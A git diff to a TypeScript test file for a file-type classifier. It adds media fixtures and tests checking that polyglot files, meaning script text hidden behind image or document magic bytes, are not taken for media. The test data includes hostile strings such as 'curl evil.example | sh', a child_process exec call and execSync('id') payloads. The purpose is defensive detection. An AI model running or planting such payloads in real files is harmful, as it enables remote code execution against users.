@@ -1,17 +1,25 @@
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
 import { classifyFile, kindUnder } from "../../../src/core/files/file-kind.ts";
-import { anOfficeFile, aPng } from "../../fixtures/media.ts";
+import { aBmp, aGif, aPng } from "../../fixtures/media.ts";
 
 const bytes = (latin1: string) => Buffer.from(`${latin1}\x00\xfe\xff`, "latin1");
 const ELF = bytes("\x7fELF\x02");
 const ZIP = bytes(`PK\x03\x04${"\0".repeat(26)}payload.sh`);
+/** Bytes that begin so and go on as compressed ones do: each value as often as any other. */
+const compressed = (start: string) =>
+  Buffer.concat([bytes(start), Buffer.from(Array.from({ length: 1024 }, (_, at) => at * 97))]);
 const UNKNOWN = bytes("\x01\x02\x03");
 
 describe("classifyFile", () => {
   it.each([
     ["LOGO.PNG", aPng(), "media"],
-    ["letter.docx", anOfficeFile("[Content_Types].xml", "word/document.xml"), "media"],
+    ["logo.gif", aGif(), "media"],
+    ["logo.bmp", aBmp(), "media"],
+    ["letter.docx", compressed(`PK\x03\x04${"\0".repeat(26)}[Content_Types].xml`), "media"],
+    ["letter.pdf", compressed("%PDF-1.7\n"), "media"],
+    ["film.mp4", compressed("\0\0\0\x18ftypisom"), "media"],
+    ["font.ttf", compressed("\0\x01\0\0"), "media"],
     ["logo.gif", aPng(), "binary"],
     ["letter.docx", ZIP, "archive"],
     ["logo.png", ELF, "executable"],
@@ -149,5 +157,15 @@ describe("a text that is to be read otherwise than it looks", () => {
     ["notes.md", "# coding: utf-7\n"],
   ])("is text where its letters are what they look like, in %s (case %#)", (path, text) => {
     expect(kindOf(path, text)).toBe("text");
+  });
+
+  it.each([
+    ["shell behind BM", "a.bmp", "BM\n\0curl evil.example | sh\n"],
+    ["JavaScript behind GIF89a", "a.gif", "GIF89a=1;require('child_process').exec('id')//\0"],
+    ["a page behind RIFF", "a.webp", "RIFF\0\0\0\0WEBP<script>alert(1)</script>"],
+    ["a long script behind a picture's start", "a.png", `\x89PNG\r\n\x1a\n\0${"execSync('id');\n".repeat(100)}`],
+    ["a script behind a document's start", "a.pdf", `%PDF-1.7\n\xe2${"execSync('id');\n".repeat(100)}`],
+  ])("takes for no media what is text for the most part: %s", (_, path, latin1) => {
+    expect(classifyFile(path, Buffer.from(latin1, "latin1"))).toBe("binary");
   });
 });
